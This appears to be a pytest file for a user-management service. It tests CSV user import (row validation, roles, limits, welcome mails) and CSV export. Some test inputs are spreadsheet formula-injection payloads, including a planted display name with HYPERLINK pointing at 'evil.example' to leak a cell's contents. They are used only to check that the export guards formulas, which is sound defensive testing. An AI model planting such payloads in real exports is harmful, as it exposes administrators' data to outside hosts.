"""Issue 21 item 7: users from a CSV file (all or nothing, row-by-row errors,
roles, limits, welcome mails) and the users export (CSV, formula guard,
round trip)."""
import csv
import io
import re

from conftest import assert_error_json, mail_text, strong_password

HEADER = "username,display_name,email,alternate_email,locale,role"


def import_csv(client, text, **opts):
    body = {"csv": text}
    body.update(opts)
    return client.post("users/import", body)


def usernames(client):
    return sorted(u["username"] for u in client.all_users()["users"])


def test_template_is_the_header_row(server, admin):
    r = admin.get("users/import/template")
    assert r.status == 200, r
    assert r.headers["content-type"].startswith("text/csv"), r.headers
    assert "attachment" in r.headers.get("content-disposition", ""), r.headers
    assert r.body.decode("utf-8-sig") == HEADER + "\r\n"


def test_import_creates_all_with_welcome_mails(server, sink, admin):
    # Excel's "CSV UTF-8" with semicolons (tr-TR), a BOM, CRLF, quotes and a column order of its own.
    text = ("\ufeffEmail;Username;Display name;Language;Role;Alternate email\r\n"
            "ayse@example.org;Ayse.Yilmaz;\"Yılmaz; Ayşe\";tr-TR;;\r\n"
            "wang@example.org;wang.xm;王小明;zh-tw;helpdesk_admin;wang.home@example.org\r\n"
            "\r\n"
            "bob@example.org;bob;\"Bob \"\"the builder\"\"\";;user;\r\n")
    before = usernames(admin)
    r = import_csv(admin, text, delivery="password")
    assert r.status == 201, r
    j = r.json
    assert j["created"] == 3 and j["rows"] == 3, j
    assert all(set(x) == {"row", "user", "notifications"} for x in j["users"]), "the answer carries a secret: %r" % j
    by = {x["user"]["username"]: x for x in j["users"]}
    assert set(by) == {"ayse.yilmaz", "wang.xm", "bob"}
    assert [by[n]["row"] for n in ("ayse.yilmaz", "wang.xm", "bob")] == [2, 3, 5]
    ayse = admin.get("users/%d" % by["ayse.yilmaz"]["user"]["id"]).json
    ayse = ayse.get("user", ayse)
    assert (ayse["display_name"], ayse["email"], ayse["locale"], ayse["role"]) == \
        ("Yılmaz; Ayşe", "ayse@example.org", "tr-TR", "user")
    wang = by["wang.xm"]["user"]
    assert (wang["display_name"], wang["locale"], wang["role"], wang["alternate_email"]) == \
        ("王小明", "zh-TW", "helpdesk_admin", "wang.home@example.org")
    assert by["bob"]["user"]["display_name"] == 'Bob "the builder"'
    assert usernames(admin) == sorted(before + ["ayse.yilmaz", "wang.xm", "bob"])
    # A welcome mail with a temporary password to each user's own address, in their language.
    for name, addr in (("ayse.yilmaz", "ayse@example.org"), ("wang.xm", "wang@example.org"), ("bob", "bob@example.org")):
        assert [n["recipient"] for n in by[name]["notifications"]] == [addr]
        assert by[name]["notifications"][0]["kind"] == "welcome_password"
        msgs = sink.wait_message_to(addr)
        assert len(msgs) == 1, msgs
        body = mail_text(msgs[0][2])
        if name == "bob":
            pw = re.search(r"Temporary password: (\S+)", body).group(1)
            j = server.client().must_sign_in(name, pw)
            assert j["must_change_password"] is True
    assert "Merhaba" in mail_text(sink.messages_to("ayse@example.org")[0][2])
    # The audit says what happened.
    audit = admin.get("audit?action=user_import").json
    assert "3 users from a CSV file" in str(audit), audit


def test_import_link_delivery(server, sink, admin):
    r = import_csv(admin, HEADER + "\nlinda,Linda,linda@example.org,,en,\n", delivery="link")
    assert r.status == 201, r
    assert r.json["users"][0]["notifications"][0]["kind"] == "welcome_link"
    body = mail_text(sink.wait_message_to("linda@example.org")[0][2])
    assert re.search(r"token=", body), body


def test_row_errors_create_nothing(server, sink, admin):
    admin.create_user("taken.one", password=strong_password())
    before = usernames(admin)
    text = "\r\n".join([
        HEADER,
        "good.one,Good,good@example.org,,en,user",             # 2: fine
        "Bad Name,X,x@example.org,,en,user",                   # 3: username
        "taken.one,T,t@example.org,,en,user",                  # 4: exists
        "good.one,Again,again@example.org,,en,user",           # 5: duplicate in file
        "mail.bad,M,not-an-address,also bad,xx,superuser",     # 6: email, alternate, locale, role
        "short,row",                                           # 7: field count
        "=cmd,\"Tab\tname\",e@example.org,,,",                 # 8: username, display name
    ]) + "\r\n"
    r = import_csv(admin, text)
    assert_error_json(r, 422, "import_rows_invalid")
    e = r.json["error"]
    assert e["field"] == "csv"
    got = [(x["row"], x.get("field"), x["code"]) for x in e["rows"]]
    assert got == [
        (3, "username", "invalid_username"),
        (4, "username", "username_taken"),
        (5, "username", "duplicate_username"),
        (6, "email", "invalid_email"),
        (6, "alternate_email", "invalid_email"),
        (6, "locale", "invalid_locale"),
        (6, "role", "invalid_role"),
        (7, None, "wrong_field_count"),
        (8, "username", "invalid_username"),
        (8, "display_name", "invalid_display_name"),
    ], got
    assert all(x["message"].strip() for x in e["rows"])
    assert "6 rows" in e["message"], e
    assert usernames(admin) == before, "a user was created although rows failed"
    assert admin.notifications() == [] or all(n["recipient"] != "good@example.org"
                                              for n in admin.notifications())
    # Header problems are reported on row 1 and also create nothing.
    for head, field, code in (("username,email,pasword", "pasword", "unknown_column"),
                              ("username,email,password", "password", "password_column"),
                              ("username,display_name", "email", "missing_column"),
                              ("username,email,email", "email", "duplicate_column")):
        r = import_csv(admin, head + "\nz.z,z@example.org,x\n")
        assert_error_json(r, 422, "import_rows_invalid")
        assert (1, field, code) in [(x["row"], x.get("field"), x["code"]) for x in r.json["error"]["rows"]], r.json
    # Text a spreadsheet did not write: the row it is on.
    for text, row, code in ((HEADER + "\na,\"open,a@example.org,,,\n", 2, "unterminated_quote"),
                            (HEADER + "\nok,O,o@example.org,,,\nb,x\"y,b@example.org,,,\n", 3, "stray_quote")):
        r = import_csv(admin, text)
        assert_error_json(r, 422, "import_rows_invalid")
        assert [(x["row"], x["code"]) for x in r.json["error"]["rows"]] == [(row, code)]
    assert usernames(admin) == before
    # The same file without the bad rows goes in.
    r = import_csv(admin, HEADER + "\ngood.one,Good,good@example.org,,en,user\n", dry_run=True)
    assert r.status == 200 and r.json["created"] == 0 and r.json["dry_run"] is True, r
    assert usernames(admin) == before
    assert import_csv(admin, HEADER + "\ngood.one,Good,good@example.org,,en,user\n").status == 201
    sink.wait_message_to("good@example.org")


def test_roles(server, admin):
    people = {}
    for role in ("user", "helpdesk_admin", "password_admin", "user_admin"):
        pw = strong_password()
        name = "csv." + role.replace("_", "")
        admin.create_user(name, role=role, password=pw)
        c = server.client()
        c.must_sign_in(name, pw)
        people[role] = c
    before = usernames(admin)
    for role in ("user", "helpdesk_admin", "password_admin"):
        c = people[role]
        assert_error_json(import_csv(c, HEADER + "\nh.one,H,h@example.org,,,user\n"), 403, "forbidden")
        assert_error_json(c.get("users/import/template"), 403, "forbidden")
    assert usernames(admin) == before
    ua = people["user_admin"]
    r = import_csv(ua, HEADER + "\nua.one,U,u1@example.org,,,user_admin\nua.two,U,u2@example.org,,,global_admin\n")
    assert_error_json(r, 422, "import_rows_invalid")
    assert [(x["row"], x.get("field"), x["code"]) for x in r.json["error"]["rows"]] == [(3, "role", "forbidden")]
    assert usernames(admin) == before
    r = import_csv(ua, HEADER + "\nua.one,U,u1@example.org,,,user_admin\n")
    assert r.status == 201, r
    # Everybody who may list users may export them; a plain user may not.
    assert people["helpdesk_admin"].get("users/export").status == 200
    assert_error_json(people["user"].get("users/export"), 403)


def test_limits(server, admin):
    before = usernames(admin)
    rows = ["u%03d,U,u%03d@example.org,,," % (i, i) for i in range(101)]
    assert_error_json(import_csv(admin, HEADER + "\n" + "\n".join(rows) + "\n"), 422, "too_many_rows")
    r = import_csv(admin, HEADER + "\n" + "\n".join(rows[:100]) + "\n", dry_run=True)
    assert r.status == 200 and r.json["rows"] == 100, r
    big = HEADER + "\n" + "x" * (61 * 1024)
    assert_error_json(import_csv(admin, big), 413, "csv_too_large")
    assert_error_json(import_csv(admin, "x" * (70 * 1024)), 413)  # the request body cap
    r = import_csv(admin, HEADER + "\n" + "a" * 1100 + ",,a@example.org,,,\n")
    assert_error_json(r, 422, "import_rows_invalid")
    assert r.json["error"]["rows"][0]["code"] == "field_too_long"
    assert_error_json(import_csv(admin, ""), 422, "csv_empty")
    assert_error_json(import_csv(admin, HEADER + "\n"), 422, "import_rows_invalid")
    assert_error_json(admin.post("users/import", {}), 422, "missing_field")
    assert_error_json(admin.post("users/import", {"csv": 5}), 400)
    assert_error_json(import_csv(admin, HEADER + "\nm,M,m@example.org,,,\n", mode="manual",
                                 password=strong_password()), 422, "invalid_mode")
    assert_error_json(import_csv(admin, HEADER + "\nm,M,m@example.org,,,\n", delivery="fax"), 422)
    assert usernames(admin) == before


def test_export_guards_formulas_and_round_trips(server, sink, admin, make_resetd):
    tricky = {"rt.eq": "=HYPERLINK(\"http://evil\",\"x\")", "rt.dash": "-Kiosk", "rt.at": "@SUM(A1)",
              "rt.plus": "+90 555", "rt.comma": "Yılmaz, Ayşe \"Ay\"", "rt.cjk": "王小明"}
    for i, (name, dn) in enumerate(tricky.items()):
        admin.create_user(name, display_name=dn, role=["user", "helpdesk_admin"][i % 2],
                          locale=["en", "zh-TW", "tr-TR"][i % 3], alternate_email="%s.alt@example.org" % name,
                          password=strong_password())
    r = admin.get("users/export?q=rt.")
    assert r.status == 200, r
    assert r.headers["content-type"].startswith("text/csv"), r.headers
    assert "attachment" in r.headers.get("content-disposition", "")
    assert r.body.startswith(b"\xef\xbb\xbf")
    assert "no-store" in r.headers.get("cache-control", ""), r.headers
    text = r.body.decode("utf-8-sig")
    assert "password" not in text.lower() and "$argon2" not in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][:6] == HEADER.split(",")
    assert sorted(x[0] for x in rows[1:]) == sorted(tricky)
    for x in rows[1:]:
        cell = x[1]
        assert cell[0] not in "=+-@\t\r", "formula not guarded: %r" % cell
        if tricky[x[0]][0] in "=+-@":
            assert cell == "'" + tricky[x[0]], cell
    assert all(line.endswith("\r") or line == "" for line in text.split("\n")), "not CRLF"
    # Import the export into a second appliance: the same users.
    other = make_resetd(relay_port=sink.port, sub="other")
    oa = other.admin()
    r = import_csv(oa, text, delivery="password")
    assert r.status == 201, r
    mine = {u["username"]: u for u in admin.list_users(q="rt.", limit=200)["users"]}
    theirs = {u["username"]: u for u in oa.list_users(q="rt.", limit=200)["users"]}
    keys = ("display_name", "email", "alternate_email", "locale", "role")
    assert {n: tuple(u[k] for k in keys) for n, u in theirs.items()} == \
        {n: tuple(u[k] for k in keys) for n, u in mine.items()}


def test_export_guards_formulas_after_a_semicolon(server, sink, admin, make_resetd):
    """Excel in a comma-decimal locale (tr-TR, the guide's own example) opens a
    .csv with ';' as the delimiter: a display name a plain user gives themselves,
    "Ay;=HYPERLINK(...)", became a cell starting with '=' in the admin's export.
    Every ';'-piece is guarded, and the file still imports as it was."""
    pw = strong_password()
    uid = admin.create_user("semi.self", password=pw).json["user"]["id"]
    me = server.client()
    me.must_sign_in("semi.self", pw)
    planted = 'Ay;=HYPERLINK("http://evil.example/?"&A1,"x");@SUM(1+1)'
    r = me.patch("users/%d" % uid, {"display_name": planted})
    assert r.status == 200, r
    admin.create_user("semi.quote", display_name="'=already;'+quoted")
    text = admin.get("users/export?q=semi.").body.decode("utf-8-sig")
    for line in text.split("\r\n")[1:]:
        for piece in line.split(";"):
            assert piece[:1] not in ("=", "+", "-", "@"), "formula cell for a ';' reader: %r in %r" % (piece, line)
    other = make_resetd(relay_port=sink.port, sub="other")
    oa = other.admin()
    r = import_csv(oa, text, delivery="password")
    assert r.status == 201, r
    theirs = {u["username"]: u["display_name"] for u in oa.list_users(q="semi.", limit=200)["users"]}
    assert theirs == {"semi.self": planted, "semi.quote": "'=already;'+quoted"}, theirs
